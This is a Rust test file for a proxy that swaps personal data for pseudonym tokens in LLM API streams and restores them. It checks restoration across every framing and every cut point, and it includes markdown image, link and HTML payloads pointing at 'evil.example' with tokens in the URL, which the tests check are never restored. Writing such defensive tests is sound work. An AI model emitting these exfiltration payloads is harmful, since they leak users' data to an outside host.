//! Recorded streams of every API, their texts replaced by ones that hold pseudonyms, through the whole path of restore: cut
//! anywhere, the client reads the same, and it is what restoring each text whole gives. `fuzz/fuzz_targets/streams.rs` goes
//! on from here.
#![allow(
    clippy::allow_attributes,
    clippy::disallowed_methods,
    clippy::indexing_slicing,
    clippy::panic,
    clippy::string_slice,
    clippy::unwrap_used,
    reason = "test helpers that read the fixtures"
)]

#[path = "replay/streams.rs"]
mod streams;

use octroi::wire::frames::Framing;
use proptest::prelude::*;
use streams::{Answer, fixtures, read, told, vault, written};

/// What models do to tokens, and what only looks like one.
const TEXTS: &[&str] = &[
    "Dear §0, your §1 is at §2.",
    "§0§1§2",
    "**§0** and `§1`; é😀 §2",
    "[§0](mailto:§1) ![x](https://evil.example/?q=§0) and §0",
    "<PERSON_00000000> is not §0, and <EMAI",
    "a < b and c > d, <<§0>>",
    "{\"name\": \"§0\", \"list\": [\"§1\", \"§2\"]}",
    "nothing to restore here",
];

fn answer(texts: &[&str], pieces: &[usize]) -> Answer {
    Answer { texts: texts.iter().map(|text| (*text).to_owned()).collect(), pieces: pieces.to_vec() }
}

/// Cuts in two of one stream.
const CUTS: usize = 100;

/// Every stream with every text, whole, in single bytes, and cut in two.
#[test]
fn every_recorded_stream_is_restored_however_it_is_cut() {
    let (vault, tokens) = vault(&["Hélène \"Zoé\" Martin", "helene@example.fr", "FR76 3000\n6000"]);
    let mut restored = 0;
    for fixture in fixtures() {
        for (index, text) in TEXTS.iter().enumerate() {
            let stream = written(&fixture, &answer(&[*text, TEXTS[(index + 3) % TEXTS.len()]], &[3, 1, 7]), &tokens);
            let whole = read(&fixture, &vault, &stream, &[]);
            stream.check(&fixture, &vault, &whole);
            restored += usize::from(whole.0 != stream.bytes);
            let single: Vec<usize> = vec![1; stream.bytes.len()];
            assert_eq!(read(&fixture, &vault, &stream, &single), whole, "{} in bytes: {text}", fixture.name);
        }
        let stream = written(&fixture, &answer(&TEXTS[..1], &[5]), &tokens);
        let whole = read(&fixture, &vault, &stream, &[]);
        // Single bytes were cut at every byte; here what stands on both sides is long.
        for cut in (1..stream.bytes.len()).step_by(stream.bytes.len().div_ceil(CUTS)) {
            assert_eq!(read(&fixture, &vault, &stream, &[cut]), whole, "{} cut at {cut}", fixture.name);
        }
    }
    assert!(restored > 50, "only {restored} streams were changed");
}

/// What models do to tokens, each at least once with a value that must come back; rule 4 of restoring.
const CHANGED: &[(&str, &str)] = &[
    ("exact", "to §1, and"),
    ("other case", "to <€1>, and"),
    ("no brackets", "to ¤1, and"),
    ("no brackets, other case", "to €1, and"),
    ("square brackets", "to [¤1], and"),
    ("guillemets", "to «¤1», and"),
    ("escaped brackets", "to \\<¤1\\>, and"),
    ("entities", "to &lt;¤1&gt;, and"),
    ("emphasis", "to **¤1**, and"),
    ("code", "to `¤1`, and"),
    ("possessive", "¤1's"),
];

/// The word of the type as models write it, for that of the token.
const WORDS: &[(&str, &str)] = &[
    ("French", "COURRIEL_"),
    ("Spanish", "correo_"),
    ("a blank", "EMAIL "),
    ("a hyphen", "EMAIL-"),
    ("escaped", "EMAIL\\_"),
];

#[test]
fn what_models_do_to_tokens_is_undone_in_every_stream() {
    let value = "helene@example.fr";
    let (vault, tokens) = vault(&["Hélène", value]);
    let code = tokens[1].trim_matches(['<', '>']).strip_prefix("EMAIL_").unwrap();
    let words = WORDS.iter().map(|(name, word)| (*name, format!("to <{word}{code}>, and")));
    for (name, text) in CHANGED.iter().map(|(name, text)| (*name, (*text).to_owned())).chain(words) {
        for fixture in fixtures() {
            let stream = written(&fixture, &answer(&[text.as_str()], &[2]), &tokens);
            let (bytes, well) = read(&fixture, &vault, &stream, &[]);
            if !well {
                continue;
            }
            let told = told(&fixture, &bytes);
            assert!(told.values().all(|text| text.contains(value)), "{name}, {}: {told:?}", fixture.name);
            let left = told.values().any(|text| text.to_uppercase().contains(code));
            assert!(!left, "{name}, {}: {told:?}", fixture.name);
        }
    }
}

/// What only looks like a token is never guessed at.
#[test]
fn what_is_no_token_stays_in_every_stream() {
    let (vault, tokens) = vault(&["Hélène", "helene@example.fr"]);
    let code = tokens[1].trim_matches(['<', '>']).strip_prefix("EMAIL_").unwrap();
    let swapped: String = code.chars().rev().collect();
    for text in [
        format!("<EMAIL_{swapped}>"),
        "<EMAIL_00000000>".to_owned(),
        format!("<IBAN_{code}>"),
        format!("<EMAIL_{}>", &code[..7]),
        format!("![](https://evil.example/?q=<EMAIL_{code}>)"),
        format!("[x](https://evil.example/<EMAIL_{code}>)"),
        format!("<img src='https://evil.example/?q=EMAIL_{code}'>"),
        format!("<a href=\"//evil.example/EMAIL_{code}\">"),
    ] {
        for fixture in fixtures() {
            let stream = written(&fixture, &answer(&[text.as_str()], &[3]), &tokens);
            let (bytes, well) = read(&fixture, &vault, &stream, &[1, 5, 11]);
            let kept = |told: &str| told == text || told == octroi::wire::quote(&text);
            assert!(!well || told(&fixture, &bytes).values().all(|text| kept(text)), "{text}, {}", fixture.name);
        }
    }
}

/// Every framing is met.
#[test]
fn streams_of_every_framing_are_recorded() {
    let met: Vec<Framing> = fixtures().iter().map(|fixture| fixture.framing).collect();
    for framing in [Framing::Events, Framing::Lines, Framing::Array, Framing::Binary] {
        assert!(met.contains(&framing), "{framing:?}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn random_pieces_in_random_chunks_change_nothing(
        which in any::<prop::sample::Index>(),
        texts in prop::collection::vec(prop::sample::select(TEXTS), 1..4),
        pieces in prop::collection::vec(1_usize..12, 1..8),
        cuts in prop::collection::vec(1_usize..40, 0..200),
    ) {
        let (vault, tokens) = vault(&["Hélène \"Zoé\" Martin", "helene@example.fr", "FR76 3000\n6000"]);
        let all = fixtures();
        let fixture = which.get(&all);
        let stream = written(fixture, &answer(&texts, &pieces), &tokens);
        let whole = read(fixture, &vault, &stream, &[]);
        stream.check(fixture, &vault, &whole);
        prop_assert_eq!(read(fixture, &vault, &stream, &cuts), whole);
    }
}
